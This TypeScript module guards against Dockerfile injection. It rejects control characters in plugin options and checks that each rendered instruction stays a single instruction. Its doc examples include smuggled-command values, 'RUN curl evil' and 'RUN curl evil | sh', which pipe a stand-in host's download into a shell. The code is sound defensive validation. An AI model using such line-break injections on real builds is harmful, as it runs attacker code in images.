/**
 * Keeping values out of Dockerfile syntax. Two checks, one before and one after rendering:
 *
 * - {@link optionTextProblems} (validate): no string in a layer's options holds a line
 *   break or another control character, which Dockerfile text cannot carry: the parser
 *   would end the instruction there and read the rest as a new one. Options a plugin
 *   carries safely (as build arguments or files) are named in its `literalOptions`.
 * - {@link instructionTextProblem} (render, a backstop): every instruction a plugin emits
 *   is one instruction as Docker's parser reads it: line breaks only after the escape
 *   character, and no continuation into whatever follows.
 *
 * @module
 */

import type { Diagnostic } from "./errors.ts";

// C0 controls and DEL: the Dockerfile parser splits on \n and \r, and drops or mangles the rest.
// deno-lint-ignore no-control-regex
const CONTROL = /[\x00-\x1f\x7f]/;

/**
 * Problems of the strings in a layer's options: each string (and object key) holding a
 * control character is one problem, naming the option by its path (`indexUrl`,
 * `packages[2]`, `secretMounts[0].mount`). Options named in `literal` are skipped.
 *
 * @example
 * ```ts
 * import { optionTextProblems } from "imgtool";
 * const problems = optionTextProblems(
 *   { indexUrl: "https://pypi.example/simple\nRUN curl evil", packages: ["numpy"] },
 * );
 * console.log(problems[0].message);
 * // option indexUrl holds a line break (U+000A) at character 28, which Dockerfile text cannot carry
 * ```
 */
export function optionTextProblems(
  options: unknown,
  literal: readonly string[] = [],
): Diagnostic[] {
  const problems: Diagnostic[] = [];
  const seen = new Set<object>();
  const visit = (value: unknown, path: string, depth: number): void => {
    if (typeof value === "string") {
      const problem = controlCharacterProblem(value, `option ${path}`);
      if (problem) problems.push(problem);
      return;
    }
    if (typeof value !== "object" || value === null || seen.has(value) || depth > 32) return;
    seen.add(value);
    if (Array.isArray(value)) {
      value.forEach((item, index) => visit(item, `${path}[${index}]`, depth + 1));
      return;
    }
    for (const [key, item] of Object.entries(value)) {
      const itemPath = path === "" ? key : `${path}.${key}`;
      if (path === "" && literal.includes(key)) continue;
      const keyProblem = controlCharacterProblem(key, `option ${path || "name"}`);
      if (keyProblem) problems.push({ ...keyProblem, message: `a key in ${keyProblem.message}` });
      visit(item, itemPath, depth + 1);
    }
  };
  visit(options, "", 0);
  return problems;
}

/**
 * The problem with one value that is to become Dockerfile text, if it has a control
 * character: what it is, where it is, and how to fix it. `what` names the value
 * (`option indexUrl`, `[images] python`, `--registry`).
 *
 * @example
 * ```ts
 * import { controlCharacterProblem } from "imgtool";
 * console.log(controlCharacterProblem("ok", "--registry")); // undefined
 * console.log(controlCharacterProblem("a\tb", "--registry")?.message);
 * // --registry holds a tab (U+0009) at character 2, which Dockerfile text cannot carry
 * ```
 */
export function controlCharacterProblem(value: string, what: string): Diagnostic | undefined {
  const match = CONTROL.exec(value);
  if (!match) return undefined;
  const char = match[0];
  const code = codePoint(char);
  const name = char === "\n"
    ? "a line break"
    : char === "\r"
    ? "a carriage return"
    : char === "\t"
    ? "a tab"
    : char === "\0"
    ? "a NUL character"
    : "a control character";
  return {
    message: `${what} holds ${name} (${code}) at character ${
      match.index + 1
    }, which Dockerfile text cannot carry`,
    hint: "remove it; if the value comes from a file or variable, check how it was read",
  };
}

/**
 * Why an instruction is not one Dockerfile instruction, or `undefined` when it is. It is
 * one (or a comment of one line) when every line break follows the escape character (a continuation; empty and
 * comment lines inside a continuation are skipped, as Docker's parser does), its last line
 * does not end in the escape character (which would join the next instruction to it), and
 * it holds no other control character than tab.
 *
 * @example
 * ```ts
 * import { instructionTextProblem } from "imgtool";
 * console.log(instructionTextProblem("RUN make \\\n    && make install")); // undefined
 * console.log(instructionTextProblem("RUN make\nRUN curl evil | sh"));
 * // line 2 starts a new instruction: a line break that does not follow \
 * console.log(instructionTextProblem("RUN make \\"));
 * // its last line continues (\), which would join the next instruction to it
 * ```
 */
export function instructionTextProblem(instruction: string, escape = "\\"): string | undefined {
  // deno-lint-ignore no-control-regex
  const control = /[\x00-\x08\x0b-\x1f\x7f]/.exec(instruction);
  if (control) {
    return `it holds a control character (${codePoint(control[0])})`;
  }
  const lines = instruction.split("\n");
  // A comment of one line is fine: it ends at its line, and its text is the plugin's.
  if (lines.length === 1 && lines[0].trimStart().startsWith("#")) return undefined;
  if (lines[0].trim() === "" || lines[0].trimStart().startsWith("#")) {
    return "it does not start with an instruction";
  }
  const continues = (line: string) => line.trimEnd().endsWith(escape);
  for (let index = 1; index < lines.length; index++) {
    const previous = lines[index - 1];
    // Inside a continuation, Docker's parser skips empty and comment lines.
    const skipped = index > 1 && /^\s*(#.*)?$/.test(previous) && continuing(lines, index - 1);
    if (!continues(previous) && !skipped) {
      return `line ${
        index + 1
      } starts a new instruction: a line break that does not follow ${escape}`;
    }
  }
  if (continues(lines.at(-1)!) || /^\s*(#.*)?$/.test(lines.at(-1)!) && lines.length > 1) {
    return `its last line continues (${escape}), which would join the next instruction to it`;
  }
  return undefined;

  function continuing(all: readonly string[], upTo: number): boolean {
    for (let index = upTo - 1; index >= 0; index--) {
      if (continues(all[index])) return true;
      if (!/^\s*(#.*)?$/.test(all[index])) return false;
    }
    return false;
  }
}

/** `char` as Unicode writes it: `U+000A`. */
function codePoint(char: string): string {
  return `U+${char.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}`;
}
